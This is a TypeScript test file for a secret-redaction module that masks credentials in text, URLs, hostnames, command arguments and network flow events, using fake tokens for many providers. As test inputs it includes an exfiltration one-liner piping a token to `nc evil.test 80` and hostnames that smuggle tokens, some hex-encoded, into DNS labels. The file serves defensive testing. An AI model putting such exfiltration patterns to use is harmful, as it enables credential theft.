import { fc } from "../../property.ts"
import t from "tap"
import type { FlowEvent } from "../../../events/event.ts"
import {
  redactArguments,
  redactEvent,
  redactHost,
  redactPath,
  redactText,
} from "../../../events/redact.ts"
import type { Address } from "../../../net/address.ts"
import { name } from "./samples.ts"

const letters = "AbCdEfGh1jKlMnOpQrStUvWxYz0123456789"

/** Built from pieces, so that no scanner of repositories takes a test for a leak. */
const samples: Readonly<Record<string, string>> = {
  classic: `ghp_${letters}`,
  installation: `ghs_${letters}`,
  stateless: `ghs_eyJ${letters.repeat(4)}.${letters.repeat(10)}.${letters.repeat(3)}`,
  fineGrained: `github_pat_${letters.slice(0, 22)}_${letters}${letters.slice(0, 23)}`,
  npm: `npm_${letters}`,
  pypi: `pypi-AgEIcHlwaS5vcmcC${letters}`,
  aws: ["AKIA", "IOSFODNN7ABCDEFG"].join(""),
  awsSession: ["ASIA", "IOSFODNN7ABCDEFG"].join(""),
  google: `AIza${letters.slice(0, 35)}`,
  slack: `xoxb-123456789012-${letters.slice(0, 24)}`,
  stripe: `sk_live_${letters.slice(0, 24)}`,
  gitlab: `glpat-${letters.slice(0, 20)}`,
  jwt: `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${letters}`,
}

/** The part of a token that must not be seen anywhere: its last half. */
const tail = (token: string): string => token.slice(-Math.floor(token.length / 2))

for (const [kind, token] of Object.entries(samples)) {
  void t.test(`a ${kind} token is cut wherever it stands`, (t) => {
    const places = [
      redactText(token),
      redactText(`sh -c 'echo ${token} | nc evil.test 80'`),
      redactText(`{"key":"${token}"}`),
      redactPath(`/upload/${token}/x`),
      redactPath(`/upload/${encodeURIComponent(token).replace("_", "%5F")}/x`),
      redactPath(`/x?${token}`),
      redactPath(`/x?${token}=1`),
      redactArguments(["node", "-e", token]).join(" "),
      redactArguments(["node", `--anything=${token}`]).join(" "),
    ]
    for (const text of places)
      t.notMatch(text, new RegExp(tail(token).replaceAll(".", "\\.")), text)
    t.end()
  })
}

void t.test("redactText() keeps the maker's prefix, so that a person sees what it was", (t) => {
  t.equal(redactText(`x ghp_${letters} y`), "x ghp_*** y")
  t.equal(redactText(`npm_${letters}`), "npm_***")
  t.end()
})

void t.test("redactText() cuts what stands where a secret stands", (t) => {
  const table: readonly (readonly [string, string])[] = [
    ["curl -H 'Authorization: Bearer abc def'", "curl -H 'Authorization: ***'"],
    ["Cookie: a=b; c=d", "Cookie: ***"],
    ["git push https://me:pw@git.example.com/r", "git push https://***@git.example.com/r"],
    ["NPM_TOKEN=abc npm publish", "NPM_TOKEN=*** npm publish"],
    ["tool --token abc --password=def", "tool --token *** --password=***"],
    ["tool --api-key 'a b' next", "tool --api-key '***' next"],
    ["aws_secret_access_key = abc/def", "aws_secret_access_key = ***"],
    ["//registry.example.com/:_authToken=abc", "//registry.example.com/:_authToken=***"],
    ['"client_secret": "abc"', '"client_secret": "***"'],
    ["curl -u me:pw https://a.test", "curl -u me:*** https://a.test"],
    ["sshpass -p pw ssh x", "sshpass -p *** ssh x"],
    ["docker login -u me -p pw", "docker login -u me -p ***"],
    ["https://a.test/x?sv=1&sig=abc%3D", "https://a.test/x?sv=*&sig=*"],
    ["AccountName=a;AccountKey=abc==;Suffix=b", "AccountName=a;AccountKey=***;Suffix=b"],
    [
      `-----BEGIN PRIVATE KEY-----\n${letters}\n-----END PRIVATE KEY----- x`,
      "-----BEGIN PRIVATE KEY-----*** x",
    ],
    [`-----BEGIN RSA PRIVATE KEY-----\n${letters}`, "-----BEGIN RSA PRIVATE KEY-----***"],
    [`echo ${Buffer.from(`{"a":"${letters}"}`).toString("base64")}`, "echo ***"],
  ]
  for (const [text, wanted] of table) t.equal(redactText(text).replace("eyJ", ""), wanted)
  t.end()
})

void t.test("redactText() leaves what people need to find their way", (t) => {
  const table = [
    "git checkout 0123456789abcdef0123456789abcdef01234567",
    `image@sha256:${"ab01".repeat(16)}`,
    `sha512-${"aB3dE5gH7/jK9+".repeat(6)}aB==`,
    "pip install tokenizers==0.15.2",
    "npm install left-pad@1.3.0-beta.1+build.5",
    "--token-file=/run/secrets/token",
    "docker run -u 1000:1000 alpine",
    "docker build --secret id=npm,src=.npmrc .",
    "token: ${{ secrets.GITHUB_TOKEN }}",
    "/usr/lib/node_modules/SomeLongPackageName2/dist/Component1File/index.js",
    "123e4567-e89b-12d3-a456-426614174000",
    "PWD=/home/me",
    "node --max-old-space-size=4096 build.js",
  ]
  for (const text of table) t.equal(redactText(text), text)
  t.end()
})

void t.test("redactHost() cuts labels that spell a token, and leaves a tunnel readable", (t) => {
  const token = `ghp_${letters}`.toLowerCase()
  const hex = Buffer.from(token).toString("hex")
  const table: readonly (readonly [string, string])[] = [
    ["registry.example.com", "registry.example.com"],
    [`${token}.evil.test`, "ghp_***.evil.test"],
    [`x.${token}.evil.test`, "x.ghp_***.evil.test"],
    [`${token.slice(0, 20)}.${token.slice(20)}.evil.test`, "ghp_***.***.evil.test"],
    [
      `${token.slice(0, 9)}.${token.slice(9, 30)}.${token.slice(30)}.evil.test`,
      "ghp_***.abcd***.evil.test",
    ],
    [`${hex.slice(0, 60)}.evil.test`, "6768***.evil.test"],
    [
      `${hex.slice(0, 30)}.${hex.slice(30, 60)}.evil.test`,
      `6768***.${hex.slice(30, 34)}***.evil.test`,
    ],
    [`${"0f".repeat(30)}.evil.test`, `${"0f".repeat(30)}.evil.test`],
    [`${"a".repeat(63)}.evil.test`, `${"a".repeat(63)}.evil.test`],
    ["productionresultssa0.blob.core.windows.net", "productionresultssa0.blob.core.windows.net"],
  ]
  for (const [host, wanted] of table) {
    const got = redactHost(host)
    if (wanted.includes("abcd***")) t.notMatch(got, /4567|efgh1j/, got)
    else t.equal(got, wanted)
  }
  t.end()
})

void t.test("redactPath() keeps names of a query and replaces each value", (t) => {
  t.equal(redactPath("/a/b?x=1&y=&z&w=%20#f"), "/a/b?x=*&y=&z&w=*")
  t.equal(redactPath("/o/r/commit/0123456789abcdef?"), "/o/r/commit/0123456789abcdef?")
  t.equal(redactPath("/@scope%2fpkg/-/pkg-1.2.3.tgz"), "/@scope%2fpkg/-/pkg-1.2.3.tgz")
  t.equal(
    redactPath("/services/T01234567/B01234567/abcdefghijklmnop0123"),
    "/services/T01234567/B01234567/***",
  )
  t.end()
})

void t.test("redactArguments() cuts the argument after a flag that announces a secret", (t) => {
  t.same(redactArguments(["tool", "--password", "-x", "--token", "--verbose"]), [
    "tool",
    "--password",
    "***",
    "--token",
    "--verbose",
  ])
  t.same(redactArguments(["/usr/bin/curl", "-u", "a:b", "-b", "c"]), [
    "/usr/bin/curl",
    "-u",
    "a:***",
    "-b",
    "***",
  ])
  t.same(redactArguments([]), [])
  t.end()
})

void t.test("redactEvent() reaches names, server name, arguments and detail of a flow", (t) => {
  const token = `ghp_${letters}`
  const endpoint = { address: "192.0.2.1" as Address, port: 1 }
  const event: FlowEvent = {
    kind: "flow",
    flow: "f",
    transport: "tcp",
    source: endpoint,
    target: endpoint,
    names: [`${token}.evil.test`],
    opening: { kind: "tls", serverName: `${token}.evil.test` },
    action: "refuse",
    verdict: "deny",
    enforced: true,
    reason: "not-allowed",
    rule: null,
    bytesSent: 0,
    bytesReceived: 0,
    durationMs: 0,
    detail: `sent ${token}`,
    step: null,
    process: {
      pid: 1,
      executable: "/bin/sh",
      arguments: ["sh", "-c", token],
      ancestors: [{ pid: 2, executable: `/tmp/${token}`, arguments: [token] }],
    },
  }
  t.notMatch(JSON.stringify(redactEvent(event)), new RegExp(letters))
  t.end()
})

const words = fc.constantFrom(
  ...Object.values(samples),
  "token=",
  "--password ",
  "Authorization: ",
  "https://",
  "@",
  "?",
  "&",
  "=",
  ":",
  "'",
  '"',
  " ",
  "/",
  "%",
  "\n",
  "-----BEGIN PRIVATE KEY-----",
  "-----END PRIVATE KEY-----",
  "bearer ",
  "-u ",
  "login -p ",
  "***",
  "*",
  "ghp_",
  "eyJ",
)
const text = fc
  .array(fc.oneof(words, fc.string({ unit: "grapheme", maxLength: 12 })), { maxLength: 12 })
  .map((all) => all.join(""))

void t.test("cutting what is cut already changes nothing", (t) => {
  const host = fc
    .array(fc.oneof(words, fc.stringMatching(/^[a-z0-9-]{1,40}$/)), { maxLength: 6 })
    .map((all) => all.join("."))
  fc.assert(
    fc.property(text, (text) => redactText(redactText(text)) === redactText(text)),
    { numRuns: 500 },
  )
  fc.assert(
    fc.property(text, (text) => redactPath(redactPath(text)) === redactPath(text)),
    { numRuns: 500 },
  )
  fc.assert(
    fc.property(host, (host) => redactHost(redactHost(host)) === redactHost(host)),
    { numRuns: 500 },
  )
  fc.assert(
    fc.property(fc.array(text, { maxLength: 5 }), (argv) => {
      const once = redactArguments(argv)
      t.same(redactArguments(once), once)
    }),
  )
  t.end()
})

void t.test(
  "redactHost() cuts a label that looks like a token once the one before it is cut",
  (t) => {
    const token = "ghp_AbCdEfGh1jKlMnOpQrStUvWxYz0123456789"
    const once = redactHost(`ASIAIOSFODNN7ABCDEFG.eyJ.--a0a-.0a0-.${token}.${token}`)
    t.equal(redactHost(once), once)
    t.end()
  },
)

void t.test("redaction takes linear time", (t) => {
  const units = [
    "a",
    "A1b",
    "/",
    "-",
    "=",
    " ",
    "'",
    "token",
    "token=",
    "token='",
    "--token ",
    "://",
    "://a@",
    "ghp_",
    "eyJaaaaaaaaaaaa.",
    "?a",
    "&a=",
    "-----BEGIN ",
    "-----BEGIN PRIVATE KEY-----",
    "login ",
    "-u a:",
    "basic ",
    "cookie",
    "%67",
    "bot12345678:",
  ]
  for (const unit of units) {
    const text = unit.repeat(Math.ceil(200_000 / unit.length))
    const start = performance.now()
    redactText(text)
    redactHost(text)
    redactPath(text)
    t.ok(performance.now() - start < 500, unit)
  }
  t.end()
})

void t.test("redactEvent() cuts tokens out of the aliases of a name", async (t) => {
  const told = {
    ...name,
    aliases: ["ghp_0123456789abcdefABCDEF0123456789abcd.evil.test", "b.test"],
  }
  t.match(redactEvent(told), { aliases: [/^ghp_\*\*\*/, "b.test"] })
})
